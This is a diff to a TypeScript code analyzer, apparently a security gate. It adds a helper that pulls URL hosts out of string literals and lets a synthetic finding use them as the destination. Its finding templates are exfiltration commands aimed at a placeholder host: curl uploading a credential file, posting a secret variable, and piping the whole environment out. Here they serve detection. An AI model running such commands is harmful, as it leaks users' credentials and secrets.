@@ -150,6 +150,21 @@ export function allLiterals(tokens: readonly Token[], what: string): CodeFinding
   return out;
 }
 
+/** The URLs the code's string literals start with (scheme and host only), shell-quoted; at most a few. */
+function urlLiterals(tokens: readonly Token[]): string[] {
+  const out: string[] = [];
+  const walk = (list: readonly Token[]): void => {
+    for (const token of list) {
+      if (out.length >= 8 || token.kind !== 'string') continue;
+      const url = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/[A-Za-z0-9.-]+/.exec(token.value);
+      if (url !== null && !out.includes(url[0])) out.push(url[0]);
+      for (const part of token.parts ?? []) if (typeof part !== 'string') walk(part);
+    }
+  };
+  walk(tokens);
+  return out;
+}
+
 /** Shell quoting of a value: literal text single-quoted, the home folder as `~`, an unknown part as `$_`. */
 function shellWord(text: string): string {
   let out = '';
@@ -214,7 +229,9 @@ class Reader {
       if (this.credential !== null) this.findings.push({ kind: 'shell-text', text: `curl -F f=@${shellWord(this.credential)} https://upload.invalid`, approximate: false, what: `${this.network} with ${shellText(this.credential)}` });
       // A secret variable in a request is what `curl -d "$NAME" …` is in a shell line: the arm decides
       // (it lets a token through to the API it is for, as it does in shell text).
-      if (this.secret !== null) this.findings.push({ kind: 'shell-text', text: `curl --data-binary "$${this.secret}" https://upload.invalid`, approximate: false, what: `${this.network} with $${this.secret}` });
+      // The code's own URLs are the request's destinations; without one, `upload.invalid` (a reserved
+      // name) says the destination is not known.
+      if (this.secret !== null) this.findings.push({ kind: 'shell-text', text: `curl --data-binary "$${this.secret}" ${urlLiterals(this.tokens).join(' ') || 'https://upload.invalid'}`, approximate: false, what: `${this.network} with $${this.secret}` });
       if (this.allEnvironment) this.findings.push({ kind: 'shell-text', text: 'env | curl --data-binary @- https://upload.invalid', approximate: false, what: `${this.network} with the whole environment` });
     }
     if (!this.followed) this.findings.push(...allLiterals(this.tokens, 'a string in code the gate could not follow'));
